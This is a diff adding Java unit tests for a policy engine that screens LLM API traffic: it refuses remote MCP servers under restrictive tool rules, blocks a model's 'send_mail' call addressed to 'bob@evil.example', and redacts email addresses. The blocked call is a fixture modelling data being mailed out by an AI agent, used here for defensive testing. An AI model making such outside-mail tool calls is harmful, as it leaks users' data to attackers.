@@ -66,6 +66,59 @@ class PolicyEngineTest {
   }
 
   @Test
+  void aRemoteMcpServerIsRefusedWhereAToolRuleCouldBlockAndLetThroughWhereNoneCan() {
+    String responses = "{\"model\":\"gpt-5\",\"input\":\"mail Bob\",\"tools\":[{\"type\":\"mcp\","
+        + "\"server_label\":\"mailer\",\"server_url\":\"https://mail.example/mcp\"}]}";
+    String anthropic = "{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":10,\"messages\":[{\"role\":\"user\","
+        + "\"content\":\"hi\"}],\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://mail.example/mcp\",\"name\":\"mailer\"}]}";
+    PolicyEngine blocking = engine("{\"toolInvocation\":[{\"tool\":\"send_*\",\"action\":\"block_when_context_untrusted\"}]}");
+    for (var call : Map.of(ApiFamily.OPENAI_RESPONSES, responses, ApiFamily.ANTHROPIC_MESSAGES, anthropic).entrySet()) {
+      RequestDecision refused = blocking.onRequest(call.getKey(), Buffer.buffer(call.getValue()), false);
+      assertThat(refused.refusal()).as(call.getKey().name()).contains("remote MCP server ('mailer')");
+      assertThat(refused.refusalRule()).isEqualTo("toolInvocation");
+    }
+    PolicyEngine allowing = engine("{\"toolInvocation\":[{\"tool\":\"*\",\"action\":\"allow\"}]}");
+    assertThat(allowing.onRequest(ApiFamily.OPENAI_RESPONSES, Buffer.buffer(responses), false).refused()).isFalse();
+  }
+
+  /** An OpenAI chat completion with a text and one tool call. */
+  private static Buffer chatAnswer(String text, String tool, String arguments) {
+    return Buffer.buffer(new JsonObject().put("id", "chatcmpl-1").put("object", "chat.completion").put("model", "gpt-4o")
+        .put("choices", new io.vertx.core.json.JsonArray().add(new JsonObject().put("index", 0)
+            .put("finish_reason", "tool_calls").put("message", new JsonObject().put("role", "assistant").put("content", text)
+                .put("tool_calls", new io.vertx.core.json.JsonArray().add(new JsonObject().put("id", "call_1")
+                    .put("type", "function").put("function", new JsonObject().put("name", tool)
+                        .put("arguments", arguments))))))).encode());
+  }
+
+  @Test
+  void aWholeAnswerIsJudgedOnWhatTheModelWroteAndRedactedInTheSamePass() {
+    PolicyEngine engine = engine("{\"toolInvocation\":[{\"id\":\"no-outside-mail\",\"tool\":\"send_mail\","
+        + "\"argument\":\"$.to\",\"matches\":\"@evil\\\\.example$\",\"action\":\"block\"}],"
+        + "\"sensitiveData\":[{\"detector\":\"email\",\"action\":\"redact\",\"direction\":\"answer\"}]}");
+    var judge = engine.toolCallJudge(false);
+
+    // The rule matches the address as the model wrote it, though redaction would hide it.
+    AnswerDecision blocked = engine.onAnswer(ApiFamily.OPENAI_CHAT,
+        chatAnswer("Mailing " + EMAIL, "send_mail", "{\"to\":\"bob@evil.example\"}"), judge);
+    assertThat(blocked.blockedCalls()).isEqualTo(1);
+    assertThat(blocked.body().toString()).contains("no-outside-mail").contains("[REDACTED:email]")
+        .doesNotContain(EMAIL).doesNotContain("bob@evil.example").doesNotContain("tool_calls\":[");
+    assertThat(blocked.redacted()).isEqualTo(Map.of("email", 1));
+
+    Buffer allowedAnswer = chatAnswer("Mailing " + EMAIL, "send_mail", "{\"to\":\"" + EMAIL + "\"}");
+    AnswerDecision allowed = engine.onAnswer(ApiFamily.OPENAI_CHAT, allowedAnswer, judge);
+    assertThat(allowed.blockedCalls()).isZero();
+    assertThat(allowed.redacted()).isEqualTo(Map.of("email", 2));
+    assertThat(new JsonObject(allowed.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message")
+        .getJsonArray("tool_calls").getJsonObject(0).getJsonObject("function").getString("arguments"))
+        .isEqualTo("{\"to\":\"[REDACTED:email]\"}");
+
+    Buffer clean = chatAnswer("Done.", "send_mail", "{\"to\":\"team\"}");
+    assertThat(engine.onAnswer(ApiFamily.OPENAI_CHAT, clean, judge).body()).isSameAs(clean);
+  }
+
+  @Test
   void aBodyThatIsNotJsonIsRefusedForWhatItHoldsAndSaysWhyNothingWasRedacted() {
     PolicyEngine engine = engine("{\"trustedData\":{\"default\":\"untrusted\"},"
         + "\"sensitiveData\":[{\"detector\":\"email\",\"action\":\"redact\"}]}");
